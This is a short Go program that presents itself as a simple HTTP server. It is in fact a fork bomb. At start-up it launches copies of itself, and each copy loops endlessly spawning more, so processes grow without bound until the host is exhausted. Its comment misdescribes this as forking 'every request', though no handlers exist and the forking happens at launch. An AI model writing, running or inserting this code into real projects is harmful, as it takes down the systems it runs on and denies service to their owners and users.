package main

import (
	"log"
	"net/http"
	"os"
	"os/exec"
)

// Every request forks two more copies of this program; the copies do the same at start-up.
func main() {
	if os.Getenv("FORKED") != "" {
		for {
			c := exec.Command(os.Args[0])
			c.Env = append(os.Environ(), "FORKED=1")
			if err := c.Start(); err != nil {
				continue
			}
		}
	}
	for i := 0; i < 2; i++ {
		c := exec.Command(os.Args[0])
		c.Env = append(os.Environ(), "FORKED=1")
		c.Start()
	}
	log.Fatal(http.ListenAndServe(os.Getenv("ADDR"), nil))
}
